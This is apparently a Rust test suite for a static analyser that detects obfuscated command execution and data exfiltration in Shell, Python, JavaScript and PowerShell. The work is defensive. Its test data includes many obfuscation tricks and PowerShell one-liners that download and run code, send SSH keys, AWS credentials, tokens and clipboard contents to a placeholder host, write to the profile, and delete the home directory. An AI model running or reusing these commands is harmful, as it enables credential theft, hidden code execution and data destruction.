//! Folding, taint and bounds.

use std::time::Instant;

use super::effect::{Action, Effect};
use super::evaluate::{Files, Unit, evaluate};
use super::parse::parse;
use super::program::Language;
use super::taint::Kinds;

fn effects(code: &str, language: Language) -> Vec<Effect> {
    let Some(program) = parse(code, language) else { return Vec::new() };
    let unit = Unit { program, file: 0, offset: 0, at: None, stem: None };
    evaluate(&[unit], &mut Files::default())
}

fn show(effects: &[Effect]) -> String {
    effects
        .iter()
        .map(|effect| {
            let names: Vec<_> =
                effect.data.origins.iter().map(|origin| format!("{}:{}", origin.kind.words(), origin.name)).collect();
            format!(
                "{:?} at {} text={:?} target={:?} data={names:?} disguised={} trigger={:?}",
                effect.action,
                effect.place.start,
                effect.text,
                effect.target,
                effect.is_disguised,
                effect.trigger.kinds
            )
        })
        .collect::<Vec<_>>()
        .join("\n")
}

/// Commands and code that are run, with what is folded.
#[test]
fn what_is_run_is_folded() {
    use Language::{JavaScript, PowerShell, Python, Shell, TypeScript};
    let rows = [
        (Python, "import os\nos.system('cu' + 'rl x')", "curl x"),
        (Python, "import os as o\no.system('%s x' % 'curl')", "curl x"),
        (Python, "import os\nt = 'curl'\nos.system(f'{t} x')", "curl x"),
        (Python, "import os\ngetattr(os, 'sys' + 'tem')('curl x')", "curl x"),
        (Python, "__import__('o' + 's').system('curl x')", "curl x"),
        (Python, "import importlib\nimportlib.import_module('os').system('curl x')", "curl x"),
        (Python, "from os import system as s\ns(' '.join(['curl', 'x']))", "curl x"),
        (Python, "import os\nos.system(''.join(chr(c) for c in [99, 117, 114, 108]))", "curl"),
        (Python, "import os\nos.system(''.join([chr(c ^ 1) for c in [98, 116, 115, 109]]))", "curl"),
        (Python, "import os\nos.system('x lruc'[::-1])", "curl x"),
        (Python, "import os, base64\nos.system(base64.b64decode('Y3VybCB4').decode())", "curl x"),
        (Python, "import os, codecs\nos.system(codecs.decode('phey k', 'rot13'))", "curl x"),
        (Python, "import os\nos.system(bytes.fromhex('6375726c').decode())", "curl"),
        (Python, "import os\nos.system(bytes([99, 117, 114, 108]).decode())", "curl"),
        (Python, "import os\nos.system('{} {}'.format('curl', 'x'))", "curl x"),
        (Python, "import os\nos.system('c#url'.replace('#', ''))", "curl"),
        (Python, "exec(base64.b64decode('cHJpbnQ='))\nimport base64", "print"),
        (Shell, "eval \"$(echo Y3VybCB4 | base64 -d)\"", "curl x"),
        (Shell, "eval \"$(echo 'lruc' | rev)\"", "curl"),
        (Shell, "eval \"$(echo phey | tr a-z n-za-m)\"", "curl"),
        (Shell, "eval $'\\x63url x'", "curl x"),
        (Shell, "x=xcurlx; eval \"${x:1:4}\"", "curl"),
        (Shell, "printf '\\143url' | bash", "curl"),
        (Shell, "bash -c \"c\"\"url\"${IFS}x", "curl x"),
        (Shell, "a=cu; b=rl; bash -c \"$a$b x\"", "curl x"),
        (Shell, "echo 6375726c | xxd -r -p | sh", "curl"),
        (Shell, "cat <<EOF | bash\ncurl x\nEOF\n", "curl x\n"),
        (PowerShell, "iex ('curl' + ' x')", "curl x"),
        (PowerShell, "i`e`x 'curl x'", "curl x"),
        (PowerShell, "& ('ie'+'x') \"curl x\"", "curl x"),
        (PowerShell, "&(\"{1}{0}\" -f 'ex','i') 'curl x'", "curl x"),
        (PowerShell, "'curl x' | IEX", "curl x"),
        (PowerShell, "$a = 'cu'; $B = \"${A}rl\"; Invoke-Expression \"$b x\"", "curl x"),
        (PowerShell, "iex (-join ([char]99,[char]117,[char]114,[char]108))", "curl"),
        (PowerShell, "iex (-join ((99,117,114,108) | % { [char]$_ }))", "curl"),
        (PowerShell, "iex (-join (98,116,115,109 | ForEach-Object { [char]($_ -bxor 1) }))", "curl"),
        (PowerShell, "iex ([char[]](99,117,114,108) -join '')", "curl"),
        (PowerShell, "iex ('c#u#r#l' -replace '#','')", "curl"),
        (PowerShell, "iex ('c[u]rl'.Replace('[','').Replace(']',''))", "curl"),
        (PowerShell, "iex ('lruc'[3..0] -join '')", "curl"),
        (PowerShell, "& ($env:ComSpec[4,15,25]-join '') 'curl x'", "curl x"),
        (PowerShell, "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('Y3VybCB4')))", "curl x"),
        (
            PowerShell,
            "iex ([System.Text.Encoding]::Unicode.GetString([System.Convert]::FromBase64String('YwB1AHIAbAA=')))",
            "curl",
        ),
        (PowerShell, "powershell -nop -w hidden -enc YwB1AHIAbAA=", "curl"),
        (Shell, "powershell.exe -EncodedCommand YwB1AHIAbAA=", "curl"),
        (PowerShell, "cmd /c curl x", "curl x"),
        (PowerShell, "function Go($What) { iex $What }\nGo -What 'curl x'", "curl x"),
        (PowerShell, "[scriptblock]::Create('curl x').Invoke()", "curl x"),
        (PowerShell, "& ([scriptblock]::Create('curl x'))", "curl x"),
    ];
    let script = [
        "require('child_process').execSync('cu' + 'rl x')",
        "const { exec: e } = require('child_process'); e(`${'curl'} x`)",
        "import { execSync } from 'node:child_process'; execSync(['curl', 'x'].join(' '))",
        "const c = require('child_' + 'process'); c['ex' + 'ec'](atob('Y3VybCB4'))",
        "import * as c from 'child_process'; c.exec(Buffer.from('6375726c2078', 'hex').toString())",
        "require('child_process').exec('x lruc'.split('').reverse().join(''))",
        "require('child_process').exec(String.fromCharCode(99, 117, 114, 108, 32, 120))",
        "require('child_process').exec([99, 117, 114, 108, 32, 120].map(n => String.fromCharCode(n)).join(''))",
        "require('child_process').spawn('curl', ['x'])",
        "const run = (command) => require('child_process').exec(command); run('curl x')",
        "class A { constructor(c) { this.c = c } go() { require('child_process').exec(this.c) } }\nnew A('curl x').go()",
        "eval(decodeURIComponent('curl%20x'))",
    ];
    let rows = rows
        .into_iter()
        .chain(script.iter().flat_map(|code| [(JavaScript, *code, "curl x"), (TypeScript, *code, "curl x")]));
    for (language, code, expected) in rows {
        let found = effects(code, language);
        let is_run =
            |effect: &Effect| effect.action == Action::Run && effect.text.iter().any(|text| &**text == expected);
        assert!(found.iter().any(is_run), "{code}\n{}", show(&found));
    }
}

/// What PowerShell sends, writes, deletes and runs, and what that came from.
#[test]
fn commands_of_powershell_are_followed() {
    let send = Action::Send(super::effect::Channel::Http);
    let rows = [
        ("iwr http://a.example/x | iex", Action::Run, Kinds::DOWNLOAD, ""),
        ("iex (New-Object Net.WebClient).DownloadString('http://a.example/x')", Action::Run, Kinds::DOWNLOAD, ""),
        ("$c = New-Object System.Net.WebClient\n$p = $c.DownloadString($u); IEX $p", Action::Run, Kinds::DOWNLOAD, ""),
        ("& ([scriptblock]::Create((irm http://a.example/x)))", Action::Run, Kinds::DOWNLOAD, ""),
        ("iex (iwr http://a.example/x -UseBasicParsing).Content", Action::Run, Kinds::DOWNLOAD, ""),
        (
            "iwr http://a.example/x -OutFile $env:TEMP\\x.exe; Start-Process $env:TEMP\\x.exe",
            Action::RunFile,
            Kinds::DOWNLOAD,
            "/tmp/x.exe",
        ),
        (
            "(New-Object Net.WebClient).DownloadFile('http://a.example/x', 'x.ps1'); .\\x.ps1",
            Action::RunFile,
            Kinds::DOWNLOAD,
            "./x.ps1",
        ),
        (
            "irm -Uri http://a.example -Method Post -Body @{ k = (gc ~/.ssh/id_rsa -Raw) }",
            send,
            Kinds::CREDENTIAL_FILE,
            "http://a.example",
        ),
        (
            "$p = @{ Uri = 'http://a.example'; Body = $env:API_TOKEN }\nInvoke-RestMethod @p",
            send,
            Kinds::SECRET_VARIABLE,
            "http://a.example",
        ),
        (
            "$e = Get-ChildItem env: | Out-String; irm http://a.example -Method Post -Body $e",
            send,
            Kinds::ENVIRONMENT,
            "http://a.example",
        ),
        (
            "$b = [IO.File]::ReadAllText(\"$HOME/.aws/credentials\"); (New-Object Net.WebClient).UploadString('http://a.example', $b)",
            send,
            Kinds::CREDENTIAL_FILE,
            "http://a.example",
        ),
        (
            "Get-Clipboard | % { irm http://a.example -Method Post -Body $_ }",
            send,
            Kinds::CLIPBOARD,
            "http://a.example",
        ),
        (
            "irm http://a.example/x | Add-Content $PROFILE",
            Action::Write,
            Kinds::DOWNLOAD,
            "~/Documents/PowerShell/Microsoft.PowerShell_profile.ps1",
        ),
        ("$x = 1; Remove-Item -Recurse -Force $HOME", Action::Delete, Kinds::NONE, "~"),
    ];
    for (code, action, kinds, target) in rows {
        let found = effects(code, Language::PowerShell);
        let is_meant = |effect: &Effect| {
            effect.action == action
                && (kinds == Kinds::NONE || effect.data.kinds.holds(kinds))
                && (target.is_empty() || effect.target.iter().any(|known| &**known == target))
        };
        assert!(found.iter().any(is_meant), "{code}\n{}", show(&found));
    }
}

/// No text makes the reader slow: nesting, length, what is never closed.
#[test]
fn hostile_texts_are_read_in_time() {
    let texts = [
        "(".repeat(30_000),
        "[".repeat(30_000),
        "{".repeat(30_000),
        "$(".repeat(30_000),
        "`".repeat(30_001),
        "\"$(".repeat(15_000),
        "a[0]".repeat(15_000) + " = 1",
        "x".to_owned() + &".a()".repeat(15_000),
        "'a' + ".repeat(15_000) + "'b'",
        "a && ".repeat(15_000) + "b",
        "if x:\n ".repeat(6_000),
        "if a; then ".repeat(6_000),
        "${a:-".repeat(15_000),
        "f(x)\n".repeat(40_000),
        "x = x + x\n".repeat(6_000),
        "<<EOF\n".repeat(6_000),
        "\u{fffc}".repeat(30_000),
        "while :; do eval \"$x\"; done;".repeat(2_000),
    ];
    for text in &texts {
        for language in [Language::Shell, Language::Python, Language::JavaScript, Language::PowerShell] {
            let start = Instant::now();
            effects(text, language);
            // Far above what it takes, and far below what anything quadratic takes.
            let took_ms = start.elapsed().as_millis();
            assert!(took_ms < 30_000, "{took_ms} ms for {language:?} {:?}", text.chars().take(12).collect::<String>());
        }
    }
}

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig::with_cases(64))]
    #[test]
    fn any_text_is_read(text in "[\\PC\n]{0,200}", bits in "([a-z$(){}\\[\\]\"'`;|&<> =:,.\n]|curl|eval|import|os\\.|def |for | in |if |<<EOF\n){0,60}") {
        for language in [Language::Shell, Language::Python, Language::JavaScript, Language::TypeScript, Language::PowerShell, Language::Other] {
            effects(&text, language);
            effects(&bits, language);
        }
    }
}

/// What is nested deeper than anybody writes is told apart before a parser sees it.
#[test]
fn what_is_too_deep_is_not_parsed() {
    let deep = "(".repeat(200 * 1024);
    let long = format!("{}x=1\n", "echo a\n".repeat(40_000));
    for language in [Language::Shell, Language::Python, Language::JavaScript, Language::PowerShell] {
        assert!(parse(&deep, language).is_none(), "{language:?}");
        assert!(parse("f(1)", language).is_some_and(|program| !program.is_cut), "{language:?}");
    }
    assert!(parse(&long, Language::Shell).is_none_or(|program| program.is_cut));
}
